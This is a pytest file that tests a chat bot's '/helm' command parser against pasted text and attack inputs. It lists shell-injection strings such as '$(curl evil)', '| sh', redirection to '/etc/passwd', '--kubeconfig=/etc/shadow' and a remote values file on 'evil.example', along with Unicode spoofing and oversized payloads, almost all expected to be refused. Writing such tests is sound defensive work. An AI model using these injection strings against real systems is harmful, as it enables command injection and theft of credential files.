"""What people paste, and what attackers try: whole notes, and what is understood of them."""

import pytest

from bot.core.command import COMMANDS, Command, Malformed, Parsed, parse
from tests.core.test_command import IGNORED, MALFORMED, UNKNOWN, WELL_FORMED


def told(parsed: Parsed) -> str:
    """`plan web --target=p`, `no such word: paln`, or `refused`."""
    match parsed:
        case Command(name, args, options):
            given = [f"--{key}={value}" if value else f"--{key}" for key, value in options.items()]
            return " ".join([name, *args, *given])
        case Malformed():
            return "refused"
        case _:
            return f"no such word: {parsed.word}"


REFUSED = ["refused"]
NOTES: dict[str, tuple[str, list[str]]] = {
    # shells
    "a second command after a semicolon": ("/helm plan web;reboot", REFUSED),
    "a semicolon apart": ("/helm plan web ; reboot", REFUSED),
    "a command substitution in a target": ("/helm plan --target=$(curl evil)", REFUSED),
    "a substitution with braces": ("/helm plan ${HOME}", REFUSED),
    "a substitution with back ticks": ("/helm diff a`id`b c`", REFUSED),
    "a variable": ("/helm diff $KUBECONFIG", REFUSED),
    "a redirection": ("/helm diff web >/etc/passwd", REFUSED),
    "a here document": ("/helm diff web <<EOF\nsecret\nEOF", REFUSED),
    "an and": ("/helm plan&&reboot", ["no such word: plan??reboot"]),
    "a pipe to a shell": ("/helm diff web | sh", REFUSED),
    "a subshell": ("/helm plan (reboot)", REFUSED),
    "a brace expansion": ("/helm plan {a,b}", REFUSED),
    "a home directory": ("/helm diff ~root", REFUSED),
    "a comment sign": ("/helm plan web # please", REFUSED),
    "a percent escape": ("/helm plan %77eb", REFUSED),
    "a backslash at the end": ("/helm plan \\\nweb", REFUSED),
    "an escaped newline": ("/helm plan web\\n/helm deploy", REFUSED),
    # quotes
    "double quotes": ('/helm diff "web"', REFUSED),
    "single quotes": ("/helm diff 'web'", REFUSED),
    "quotes in quotes": ("""/helm diff "it's 'nested' \\"here\\"" """, REFUSED),
    "a quote that does not end": ('/helm diff "web', REFUSED),
    "typographic quotes": ("/helm diff \u201cweb\u201d", REFUSED),
    "quotes in a reason": ("""/helm lock "it's 'so'" """, ["lock \"it's 'so'\""]),
    # options of other programs
    "a kubeconfig": ("/helm plan --kubeconfig=/etc/shadow", REFUSED),
    "a kubeconfig of a target": ("/helm plan --target --kubeconfig=/etc/shadow", REFUSED),
    "a post renderer": ("/helm plan --post-renderer=./evil", REFUSED),
    "a set": ("/helm deploy --set image.tag=evil", REFUSED),
    "values of elsewhere": ("/helm plan -f https://evil.example/values.yaml", REFUSED),
    "a plugin": ("/helm plugin install evil", ["no such word: plugin"]),
    "an option of help": ("/helm help --target production", REFUSED),
    "a lone dash": ("/helm diff -", REFUSED),
    "three dashes": ("/helm plan ---target=p", REFUSED),
    "a typographic dash": ("/helm plan \u2014target=p", REFUSED),
    "a minus sign": ("/helm plan \u2212\u2212target=p", REFUSED),
    "an option in upper case": ("/helm plan --TARGET=p", REFUSED),
    # paths and names that mean something elsewhere
    "a parent directory": ("/helm diff ../../etc/passwd", ["diff ../../etc/passwd"]),
    "a reference to everybody": ("/helm plan @all", ["plan @all"]),
    "a merge request's number": ("/helm plan !1", REFUSED),
    "an issue's number": ("/helm plan #1", REFUSED),
    "a closing word": ("/helm plan\nCloses #1", ["plan"]),
    # Unicode
    "a Cyrillic a in the word": ("/helm pl\u0430n", ["no such word: pl?n"]),
    "a Greek o in a name": ("/helm diff p\u03bfdinfo", REFUSED),
    "full-width digits": ("/helm rollback web \uff13", REFUSED),
    "a right-to-left override": ("/helm plan \u202ebew", REFUSED),
    "an isolate": ("/helm plan \u2066web\u2069", REFUSED),
    "a right-to-left mark": ("/helm plan web\u200f", REFUSED),
    "an Arabic letter mark": ("/helm plan \u061cweb", REFUSED),
    "a zero-width joiner": ("/helm plan w\u200deb", REFUSED),
    "a zero-width no-break space": ("/helm plan \ufeffweb", REFUSED),
    "a word joiner": ("/helm plan w\u2060eb", REFUSED),
    "a soft hyphen": ("/helm plan w\u00adeb", REFUSED),
    "a combining mark": ("/helm plan we\u0301b", REFUSED),
    "a tag character": ("/helm plan web\U000e0041", REFUSED),
    "an ideographic space": ("/helm plan\u3000web", ["no such word: plan?web"]),
    "an em space": ("/helm plan\u2003web", ["no such word: plan?web"]),
    "a ligature": ("/helm \ufb01nd", ["no such word: ?nd"]),
    "a dotless i": ("/helm h\u0131story web", ["no such word: h?story"]),
    "a Kelvin sign": ("/helm loc\u212a", ["no such word: loc?"]),
    "mathematical letters": ("/\U0001d421\U0001d41e\U0001d425\U0001d426 plan", REFUSED),
    "a byte order mark before": ("\ufeff/helm plan", REFUSED),
    "an emoji": ("/helm plan \U0001f680", REFUSED),
    "a surrogate": ("/helm plan \ud800", REFUSED),
    # lines
    "Windows lines": ("/helm plan\r\n/helm status\r\n", ["plan", "status"]),
    "old Mac lines": ("/helm plan\r/helm status", ["plan", "status"]),
    "a line separator": ("/helm plan\u2028/helm deploy", REFUSED),
    "a next-line sign": ("/helm plan\u0085/helm deploy", REFUSED),
    "a form feed": ("/helm plan\x0c/helm deploy", REFUSED),
    "a null": ("/helm\x00plan", []),
    "an escape sequence": ("/helm plan \x1b]0;evil\x07", REFUSED),
    "two on one line": ("/helm plan /helm deploy", ["plan /helm deploy"]),
    "one that is quoted and one that is not": ("> /helm deploy\n\n/helm plan", ["plan"]),
    "one in a fence and one after it": ("```\n/helm deploy\n```\n/helm plan", ["plan"]),
    "one in a fence of a list": ("- x\n  ```\n  /helm deploy\n  ```\n", []),
    "a fence that a look-alike does not close": ("```\n'''\n/helm deploy", []),
    "a comment that is not closed": ("<!-- \n/helm deploy", []),
    "details that hide one": ("<details>\n\n/helm deploy\n\n</details>", []),
    "a suggestion": ("```suggestion:-0+0\n/helm deploy\n```", []),
    "a quick action and a command": ("/approve\n/helm plan", ["plan"]),
    "the bot's own words": ("`/helm plan` plans again, `/helm help` lists the commands.", []),
    "an e-mail reply": ("/helm plan\n\nOn Monday max wrote:\n> /helm deploy", ["plan"]),
    # size
    "a name of a megabyte": ("/helm diff " + "a" * 1_000_000, REFUSED),
    "a word of a megabyte": ("/helm" + "a" * 1_000_000, []),
    "blanks of a megabyte": ("/helm" + " " * 1_000_000 + "plan", REFUSED),
    "a megabyte of text before": ("x" * 1_000_000 + "\n/helm plan", []),
    "a megabyte of text after": ("/helm plan\n" + "x" * 1_000_000, ["plan"]),
    "a megabyte of ticks": ("`" * 1_000_000 + "\n/helm plan", []),
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize(("note", "expected"), NOTES.values(), ids=NOTES.keys())
def test_a_note_is_understood_exactly_so(note: str, expected: list[str]) -> None:
    assert [told(it) for it in parse(note)] == expected


def test_the_tables_of_notes_are_long_enough_to_mean_something() -> None:
    assert len(NOTES) + len(WELL_FORMED) + len(IGNORED) + len(MALFORMED) + len(UNKNOWN) >= 180


def test_no_command_but_a_reason_takes_free_text() -> None:
    assert [name for name, spec in COMMANDS.items() if spec.free_text] == ["lock"]
